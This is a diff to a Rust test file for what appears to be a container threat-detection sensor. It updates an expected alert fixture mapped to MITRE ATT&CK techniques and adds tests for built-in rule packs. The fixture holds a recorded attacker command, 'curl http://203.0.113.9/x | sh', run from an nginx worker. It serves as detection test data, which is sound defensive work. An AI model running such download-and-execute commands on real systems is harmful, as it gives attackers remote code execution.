@@ -39,16 +39,20 @@ const MIXED: &str = r#"{"@timestamp":"2026-03-01T10:00:00.000Z","event":{"id":"e
 
 const GOLDEN: &str = concat!(
     r#"{"@timestamp":"2026-03-01T10:00:00.000Z","container":{"id":"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"},"#,
-    r#""event":{"action":"exec","category":["process"],"id":"ev-1","kind":"alert","type":["start"]},"#,
+    r#""event":{"action":"exec","category":["#,
+    r#""process"],"id":"ev-1","kind":"alert","type":["start"]},"#,
     r#""kibana":{"alert":{"risk_score":73,"rule":{"name":"Web Server Exploitation Detected via Defend for Containers","rule_id":"497a7091-0ebd-44d7-88c4-367ab4d4d852","threat":["#,
     r#"{"framework":"MITRE ATT&CK","tactic":{"id":"TA0003","name":"Persistence","reference":"https://attack.mitre.org/tactics/TA0003/"},"technique":[{"id":"T1505","name":"Server Software Component","reference":"https://attack.mitre.org/techniques/T1505/","subtechnique":[{"id":"T1505.003","name":"Web Shell","reference":"https://attack.mitre.org/techniques/T1505/003/"}]}]},"#,
     r#"{"framework":"MITRE ATT&CK","tactic":{"id":"TA0002","name":"Execution","reference":"https://attack.mitre.org/tactics/TA0002/"},"technique":[{"id":"T1059","name":"Command and Scripting Interpreter","reference":"https://attack.mitre.org/techniques/T1059/","subtechnique":[{"id":"T1059.004","name":"Unix Shell","reference":"https://attack.mitre.org/techniques/T1059/004/"}]}]},"#,
-    r#"{"framework":"MITRE ATT&CK","tactic":{"id":"TA0011","name":"Command and Control","reference":"https://attack.mitre.org/tactics/TA0011/"},"technique":[{"id":"T1071","name":"Application Layer Protocol","reference":"https://attack.mitre.org/techniques/T1071/"}]}]},"#,
+    r#"{"framework":"MITRE ATT&CK","tactic":{"id":"TA0011","name":"Command and Control","reference":"https://attack.mitre.org/tactics/TA0011/"},"technique":[{"id":"T1071","name":"Application Layer Protocol","reference":"https://attack.mitre.org/techniques/T1071/"},{"id":"T1095","name":"Non-Application Layer Protocol","reference":"https://attack.mitre.org/techniques/T1095/"},{"id":"T1105","name":"Ingress Tool Transfer","reference":"https://attack.mitre.org/techniques/T1105/"}]},"#,
+    r#"{"framework":"MITRE ATT&CK","tactic":{"id":"TA0006","name":"Credential Access","reference":"https://attack.mitre.org/tactics/TA0006/"},"technique":[{"id":"T1552","name":"Unsecured Credentials","reference":"https://attack.mitre.org/techniques/T1552/","subtechnique":[{"id":"T1552.001","name":"Credentials In Files","reference":"https://attack.mitre.org/techniques/T1552/001/"}]}]},"#,
+    r#"{"framework":"MITRE ATT&CK","tactic":{"id":"TA0001","name":"Initial Access","reference":"https://attack.mitre.org/tactics/TA0001/"},"technique":[{"id":"T1190","name":"Exploit Public-Facing Application","reference":"https://attack.mitre.org/techniques/T1190/"}]}]},"#,
     r#""severity":"high"}},"#,
     r#""process":{"args":["sh","-c","curl http://203.0.113.9/x | sh"],"args_count":3,"name":"sh","parent":{"args":["nginx: worker process"],"interactive":false,"name":"nginx","pid":100},"pid":4242},"#,
-    r#""threat":{"framework":"MITRE ATT&CK","tactic":{"id":["TA0003","TA0002","TA0011"],"name":["Persistence","Execution","Command and Control"],"reference":["https://attack.mitre.org/tactics/TA0003/","https://attack.mitre.org/tactics/TA0002/","https://attack.mitre.org/tactics/TA0011/"]},"#,
-    r#""technique":{"id":["T1505","T1059","T1071"],"name":["Server Software Component","Command and Scripting Interpreter","Application Layer Protocol"],"reference":["https://attack.mitre.org/techniques/T1505/","https://attack.mitre.org/techniques/T1059/","https://attack.mitre.org/techniques/T1071/"],"#,
-    r#""subtechnique":{"id":["T1505.003","T1059.004"],"name":["Web Shell","Unix Shell"],"reference":["https://attack.mitre.org/techniques/T1505/003/","https://attack.mitre.org/techniques/T1059/004/"]}}},"#,
+    r#""threat":"#,
+    r#"{"framework":"MITRE ATT&CK","tactic":{"id":["TA0003","TA0002","TA0011","TA0006","TA0001"],"name":["Persistence","Execution","Command and Control","Credential Access","Initial Access"],"reference":["https://attack.mitre.org/tactics/TA0003/","https://attack.mitre.org/tactics/TA0002/","https://attack.mitre.org/tactics/TA0011/","https://attack.mitre.org/tactics/TA0006/","https://attack.mitre.org/tactics/TA0001/"]},"#,
+    r#""technique":{"id":["T1505","T1059","T1071","T1095","T1105","T1552","T1190"],"name":["Server Software Component","Command and Scripting Interpreter","Application Layer Protocol","Non-Application Layer Protocol","Ingress Tool Transfer","Unsecured Credentials","Exploit Public-Facing Application"],"reference":["https://attack.mitre.org/techniques/T1505/","https://attack.mitre.org/techniques/T1059/","https://attack.mitre.org/techniques/T1071/","https://attack.mitre.org/techniques/T1095/","https://attack.mitre.org/techniques/T1105/","https://attack.mitre.org/techniques/T1552/","https://attack.mitre.org/techniques/T1190/"],"#,
+    r#""subtechnique":{"id":["T1505.003","T1059.004","T1552.001"],"name":["Web Shell","Unix Shell","Credentials In Files"],"reference":["https://attack.mitre.org/techniques/T1505/003/","https://attack.mitre.org/techniques/T1059/004/","https://attack.mitre.org/techniques/T1552/001/"]}}},"#,
     r#""user":{"id":"33"}}"#,
     "\n"
 );
@@ -182,5 +186,81 @@ fn oversized_query_files_and_mappings_are_refused_before_reading_them_whole() {
             )),
             "{flag}: {stderr}"
         );
+    }
+}
+
+/// `builtin:<pack>` wherever a rules path is accepted: `rules check`,
+/// `replay --rules`, `config check --rules`; an unknown pack is one clean
+/// error naming the packs there are.
+#[test]
+fn cli_accepts_builtin_packs_and_names_the_known_ones() {
+    let exe = env!("CARGO_BIN_EXE_sensor");
+    let sensor = |args: &[&str]| std::process::Command::new(exe).args(args).output().unwrap();
+    let out = sensor(&["rules", "check", "builtin:d4c"]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(out.status.success(), "{text}");
+    let rule_lines: Vec<&str> = text
+        .lines()
+        .filter(|l| l.contains("\tsupported") || l.contains("\tunsupported"))
+        .collect();
+    assert_eq!(rule_lines.len(), 49, "{text}");
+    assert!(
+        text.lines()
+            .last()
+            .is_some_and(|l| l.starts_with("49 files: ") && l.ends_with(", 0 malformed")),
+        "{text}"
+    );
+    let out = sensor(&["rules", "check", "builtin:seed"]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        text.starts_with(
+            "497a7091-0ebd-44d7-88c4-367ab4d4d852\tWeb Server Exploitation Detected via Defend for Containers\tsupported"
+        ),
+        "{text}"
+    );
+
+    let dir = tempfile::tempdir().unwrap();
+    let events = dir.path().join("ev.jsonl");
+    std::fs::write(&events, format!("{NESTED}\n")).unwrap();
+    for pack in ["builtin:seed", "builtin:d4c"] {
+        let out = sensor(&["replay", "--rules", pack, events.to_str().unwrap()]);
+        assert!(out.status.success(), "{out:?}");
+        let alerts = String::from_utf8_lossy(&out.stdout);
+        assert!(
+            alerts.contains("\"rule_id\":\"497a7091-0ebd-44d7-88c4-367ab4d4d852\""),
+            "{pack}: {alerts}"
+        );
+    }
+    let out = sensor(&["config", "check", "--rules", "builtin:d4c"]);
+    assert!(out.status.success(), "{out:?}");
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("config ok: 48 rules loaded"),
+        "{out:?}"
+    );
+
+    for args in [
+        &["rules", "check", "builtin:linux"][..],
+        &[
+            "replay",
+            "--rules",
+            "builtin:linux",
+            events.to_str().unwrap(),
+        ],
+        &["config", "check", "--rules", "builtin:linux"],
+    ] {
+        let out = sensor(args);
+        assert!(!out.status.success(), "{args:?}");
+        let all = format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
+        assert!(
+            all.contains(
+                "no built-in rule pack `linux` (built-in packs: builtin:seed, builtin:d4c)"
+            ),
+            "{args:?}: {all}"
+        );
+        assert!(!all.contains("panicked"), "{all}");
     }
 }
